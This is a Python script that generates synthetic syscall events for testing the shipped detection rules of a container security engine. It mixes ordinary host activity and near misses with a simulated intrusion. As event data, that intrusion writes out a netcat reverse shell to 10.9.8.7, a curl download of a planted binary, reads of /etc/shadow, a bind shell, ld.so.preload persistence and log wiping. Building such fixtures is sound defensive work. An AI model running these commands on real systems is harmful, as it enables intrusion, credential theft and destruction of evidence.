"""Generate ``samples/events.jsonl``: a deterministic day-in-the-life of one host.

Run from the repository root (``python samples/generate_events.py``); the
output is the same on every run. The timeline is a small Linux host running
three containers (nginx, a Python API, redis) with ordinary activity (web
requests, cron, ssh logins, package updates, log rotation, an admin at a
shell) and, mixed in, a short intrusion that the shipped rules
(``rules/secengine_rules.yaml``) should report, plus near misses they must
not report. Events are field-map events (``docs/replay-format.md``).
"""

from __future__ import annotations

import random
import sys
from pathlib import Path
from typing import Any

import orjson

START_NS = 1_715_677_200_000_000_000  # 2024-05-14T09:00:00Z
HOST = {"container.id": "host", "container.name": "host"}
WEB = {"container.id": "3f2a9c1b7d4e", "container.name": "web",
       "container.image.repository": "docker.io/library/nginx"}
API = {"container.id": "8b1e44d0c2a7", "container.name": "orders-api",
       "container.image.repository": "ghcr.io/example/orders-api"}
REDIS = {"container.id": "c0ffee12ab34", "container.name": "cache",
         "container.image.repository": "docker.io/library/redis"}
USERS = {"root": 0, "alice": 1000, "www-data": 33, "nobody": 65534, "redis": 999,
         "app": 1001, "syslog": 104}


class Timeline:
    def __init__(self, seed: int = 20240514) -> None:
        self.rng = random.Random(seed)
        self.ts = START_NS
        self.events: list[dict[str, Any]] = []

    def tick(self, lo: float = 0.2, hi: float = 3.0) -> int:
        self.ts += int(self.rng.uniform(lo, hi) * 1e9) + self.rng.randrange(1000)
        return self.ts

    def emit(self, fields: dict[str, Any]) -> None:
        self.events.append({"source": "syscall", "time": self.tick(), "fields": fields})


def proc(name: str, args: str = "", *, pname: str, user: str = "root",
         ctr: dict[str, str] = HOST, tty: int = 0, exe: str | None = None,
         ancestors: tuple[str, ...] = ()) -> dict[str, Any]:
    exepath = exe or f"/usr/bin/{name}"
    f: dict[str, Any] = {
        "proc.name": name, "proc.exe": exepath, "proc.exepath": exepath,
        "proc.args": args, "proc.cmdline": f"{name} {args}".rstrip(),
        "proc.pname": pname, "proc.tty": tty,
        "user.name": user, "user.uid": USERS[user], "user.loginuid": USERS[user] if tty else -1,
        **ctr,
    }
    for i, a in enumerate(ancestors, start=2):
        f[f"proc.aname[{i}]"] = a
    return f


def execve(p: dict[str, Any], *, memfd: bool = False) -> dict[str, Any]:
    return {"evt.type": "execve", "evt.res": "SUCCESS", "proc.is_exe_from_memfd": memfd, **p}


def open_(p: dict[str, Any], path: str, *, write: bool = False, flags: str | None = None,
          res: str = "SUCCESS") -> dict[str, Any]:
    directory, _, filename = path.rpartition("/")
    if flags is None:
        flags = "O_WRONLY|O_CREAT|O_CLOEXEC" if write else "O_RDONLY|O_CLOEXEC"
    f = {"evt.type": "openat", "evt.res": res, "fd.name": path, "fd.directory": directory or "/",
         "fd.filename": filename, "fd.typechar": "f", "fd.type": "file",
         "evt.is_open_read": not write or "O_RDWR" in flags, "evt.is_open_write": write,
         "evt.arg.flags": flags, "fd.num": 3 if res == "SUCCESS" else -1, **p}
    if res != "SUCCESS":
        for k in ("fd.type", "fd.directory", "fd.filename"):
            f.pop(k)
    return f


def connect(p: dict[str, Any], sip: str, sport: int, cport: int) -> dict[str, Any]:
    return {"evt.type": "connect", "evt.res": "SUCCESS", "fd.typechar": "4", "fd.type": "ipv4",
            "fd.l4proto": "tcp", "fd.sip": sip, "fd.sport": sport, "fd.cip": "10.0.0.5",
            "fd.cport": cport, "fd.name": f"10.0.0.5:{cport}->{sip}:{sport}", **p}


def socket(p: dict[str, Any], domain: str) -> dict[str, Any]:
    return {"evt.type": "socket", "evt.res": "SUCCESS", "evt.arg.domain": domain,
            "fd.typechar": "4" if "INET" in domain else "o", **p}


def other(p: dict[str, Any], evt_type: str, res: str = "SUCCESS", **args: Any) -> dict[str, Any]:
    return {"evt.type": evt_type, "evt.res": res, **{f"evt.arg.{k}": v for k, v in args.items()},
            **p}


def background(t: Timeline, rounds: int) -> None:
    """Ordinary activity: what the rules must stay quiet about."""
    rng = t.rng
    nginx = proc("nginx", "-g daemon off;", pname="containerd-shim", user="www-data", ctr=WEB,
                 exe="/usr/sbin/nginx")
    gunicorn = proc("gunicorn", "orders.wsgi -b 0.0.0.0:8000", pname="gunicorn", user="app",
                    ctr=API, exe="/usr/local/bin/gunicorn")
    redis = proc("redis-server", "*:6379", pname="containerd-shim", user="redis", ctr=REDIS,
                 exe="/usr/local/bin/redis-server")
    pages = ["/usr/share/nginx/html/index.html", "/usr/share/nginx/html/app.js",
             "/usr/share/nginx/html/style.css", "/usr/share/nginx/html/favicon.ico"]
    for _ in range(rounds):
        choice = rng.randrange(10)
        if choice < 3:
            t.emit(open_(nginx, rng.choice(pages)))
            t.emit(open_(nginx, "/var/log/nginx/access.log", write=True,
                         flags="O_WRONLY|O_APPEND|O_CREAT"))
        elif choice < 5:
            t.emit(open_(gunicorn, "/app/orders/settings.py"))
            t.emit(connect(gunicorn, "10.0.0.12", 5432, rng.randrange(32768, 60999)))
            t.emit(connect(gunicorn, "10.0.0.7", 6379, rng.randrange(32768, 60999)))
        elif choice < 6:
            t.emit(open_(redis, "/data/dump.rdb", write=True, flags="O_WRONLY|O_CREAT|O_TRUNC"))
        elif choice < 7:
            cron = proc("cron", "-f", pname="systemd")
            job = proc("sh", "-c /usr/local/sbin/backup.sh", pname="cron")
            t.emit(open_(cron, "/etc/crontab"))
            t.emit(execve(job))
            t.emit(execve(proc("tar", "czf /backup/etc.tgz /etc", pname="sh",
                               ancestors=("cron", "systemd"))))
        elif choice < 8:
            t.emit(execve(proc("systemd-tmpfiles", "--clean", pname="systemd")))
            t.emit(open_(proc("systemd-journal", "", pname="systemd", exe="/lib/systemd/systemd-journald"),
                         "/var/log/journal/system.journal", write=True, flags="O_RDWR|O_CREAT"))
        elif choice < 9:
            t.emit(open_(proc("node_exporter", "--collector.systemd", pname="systemd",
                              user="nobody"), "/proc/stat"))
        else:
            sh = proc("sh", "-c 'python -m orders.healthcheck'", pname="containerd-shim",
                      user="app", ctr=API, exe="/bin/sh")
            t.emit(execve(sh))  # no terminal: not interactive
            t.emit(execve(proc("python3", "-m orders.healthcheck", pname="sh", user="app",
                               ctr=API, exe="/usr/local/bin/python3")))


def admin_session(t: Timeline) -> None:
    """An administrator's ordinary day: logins, updates, debugging, log rotation."""
    sshd = proc("sshd", "-D", pname="systemd", exe="/usr/sbin/sshd")
    t.emit(open_(sshd, "/etc/shadow"))  # password check: sshd is trusted
    t.emit(other(proc("sshd", "-D", pname="sshd", exe="/usr/sbin/sshd"), "setuid", uid="alice"))
    bash = proc("bash", "", pname="sshd", user="alice", tty=34816, exe="/bin/bash")
    t.emit(execve(bash))
    for cmd, args in [("ls", "-la /var/www"), ("cat", "/etc/passwd"), ("uptime", ""),
                      ("grep", "-i error /var/log/syslog"), ("ps", "aux")]:
        p = proc(cmd, args, pname="bash", user="alice", tty=34816, ancestors=("sshd", "systemd"))
        t.emit(execve(p))
        if cmd == "cat":
            t.emit(open_(p, "/etc/passwd"))
        if cmd == "grep":
            t.emit(open_(p, "/var/log/syslog"))
    t.emit(open_(proc("cat", "/etc/shadow", pname="bash", user="alice", tty=34816),
                 "/etc/shadow", res="EACCES"))  # denied: not a read
    sudo = proc("sudo", "apt-get upgrade -y", pname="bash", user="alice", tty=34816)
    t.emit(execve(sudo))
    t.emit(open_(sudo, "/etc/sudoers"))
    t.emit(other(sudo, "setuid", uid="root"))
    apt = proc("apt-get", "upgrade -y", pname="sudo", tty=34816)
    t.emit(execve(apt))
    dpkg = proc("dpkg", "--status-fd 35 --unpack /var/cache/apt/archives/curl.deb",
                pname="apt-get", tty=34816)
    t.emit(execve(dpkg))
    for b in ("/usr/bin/curl", "/usr/lib/x86_64-linux-gnu/libcurl.so.4.8.0"):
        t.emit(open_(dpkg, b, write=True, flags="O_WRONLY|O_CREAT|O_TRUNC"))
    t.emit(execve(proc("tcpdump", "-i eth0 -c 100 port 53", pname="bash", tty=34816)))
    t.emit(socket(proc("tcpdump", "-i eth0 -c 100 port 53", pname="bash", tty=34816),
                  "AF_PACKET"))
    t.emit(execve(proc("modprobe", "wireguard", pname="bash", tty=34816)))
    t.emit(other(proc("modprobe", "wireguard", pname="bash", tty=34816), "finit_module"))
    gdb = proc("gdb", "-p 2231", pname="bash", user="alice", tty=34816)
    t.emit(execve(gdb))
    t.emit(other(gdb, "ptrace", request="PTRACE_ATTACH"))
    t.emit(execve(proc("nc", "-zv 10.0.0.12 5432", pname="bash", user="alice", tty=34816,
                       exe="/usr/bin/nc")))  # port check on the host: fine
    t.emit(other(proc("ln", "-s /etc/hosts /tmp/hosts", pname="bash", user="alice", tty=34816),
                 "symlinkat", target="/etc/hosts", linkpath="/tmp/hosts"))
    logrotate = proc("logrotate", "/etc/logrotate.conf", pname="cron")
    t.emit(execve(logrotate))
    t.emit(open_(logrotate, "/var/log/syslog", write=True, flags="O_WRONLY|O_TRUNC"))
    t.emit(other(logrotate, "unlinkat", name="/var/log/syslog.7.gz"))
    t.emit(other(proc("rm", "-f /tmp/build.log", pname="bash", user="alice", tty=34816),
                 "unlinkat", name="/tmp/build.log"))
    t.emit(other(proc("su", "- nobody -s /bin/sh", pname="bash", tty=34816), "setuid",
                 uid="nobody"))


def intrusion(t: Timeline) -> None:
    """The attack the shipped rules should report, one step per rule (and a few more)."""
    # 1. an attacker with stolen kube credentials opens a shell in the API container
    sh = proc("bash", "", pname="runc", user="app", ctr=API, tty=34817, exe="/bin/bash")
    t.emit(execve(sh))
    t.emit(execve(proc("id", "", pname="bash", user="app", ctr=API, tty=34817)))
    # 2. credential search inside the container
    t.emit(execve(proc("grep", "-rI PASSWORD /app", pname="bash", user="app", ctr=API,
                       tty=34817)))
    t.emit(execve(proc("find", "/ -name id_rsa", pname="bash", user="app", ctr=API, tty=34817)))
    # 3. a local privilege escalation exploit ends in setuid(0)
    exploit = proc("pkexec-poc", "", pname="bash", user="app", ctr=API, tty=34817,
                   exe="/tmp/.x/pkexec-poc")
    t.emit(execve(exploit))
    t.emit(other(exploit, "setuid", uid="root"))
    # 3b. a netcat reverse shell from the container
    t.emit(execve(proc("ncat", "10.9.8.7 4444", pname="bash", user="app", ctr=API, tty=34817)))
    # 4. container escape lands on the host as root; reads shadow, plants a binary
    root_sh = proc("sh", "-i", pname="runc", user="root", exe="/bin/sh")
    t.emit(execve(root_sh))
    cat = proc("cat", "/etc/shadow", pname="sh", ancestors=("runc", "containerd"))
    t.emit(execve(cat))
    t.emit(open_(cat, "/etc/shadow"))
    curl = proc("curl", "-so /usr/local/bin/kworkerd http://10.9.8.7/k", pname="sh")
    t.emit(execve(curl))
    t.emit(connect(curl, "10.9.8.7", 80, 51234))
    t.emit(open_(curl, "/usr/local/bin/kworkerd", write=True, flags="O_WRONLY|O_CREAT|O_TRUNC"))
    # 5. fileless stage two from a memfd
    t.emit(execve(proc("kworkerd", "", pname="sh", exe="memfd:x (deleted)"), memfd=True))
    stage = proc("kworkerd", "", pname="sh", exe="/usr/local/bin/kworkerd")
    t.emit(socket(stage, "AF_PACKET"))  # 6. sniffing
    t.emit(other(stage, "finit_module"))  # 7. rootkit module
    t.emit(other(stage, "ptrace", request="PTRACE_SEIZE"))  # 8. injection into sshd
    # 9. persistence through the dynamic linker, a symlink to shadow, a bind shell
    t.emit(open_(stage, "/etc/ld.so.preload", write=True))
    t.emit(other(proc("ln", "-s /etc/shadow /tmp/.s", pname="sh"), "symlinkat",
                 target="/etc/shadow", linkpath="/tmp/.s"))
    t.emit(execve(proc("nc", "-lvp 31337 -e /bin/sh", pname="sh", exe="/bin/nc.traditional")))
    # 10. covering tracks
    t.emit(open_(proc("sh", "-i", pname="runc", exe="/bin/sh"), "/var/log/wtmp", write=True,
                 flags="O_WRONLY|O_TRUNC"))
    t.emit(other(proc("rm", "-f /var/log/auth.log", pname="sh"), "unlinkat",
                 name="/var/log/auth.log"))
    t.emit(other(proc("shred", "-u /var/log/lastlog", pname="sh"), "unlink",
                 path="/var/log/lastlog"))


def build() -> list[dict[str, Any]]:
    t = Timeline()
    background(t, 60)
    admin_session(t)
    background(t, 50)
    intrusion(t)
    background(t, 40)
    return t.events


def main(argv: list[str]) -> int:
    out = Path(argv[1]) if len(argv) > 1 else Path(__file__).with_name("events.jsonl")
    events = build()
    out.write_bytes(b"".join(orjson.dumps(e) + b"\n" for e in events))
    print(f"wrote {len(events)} events to {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
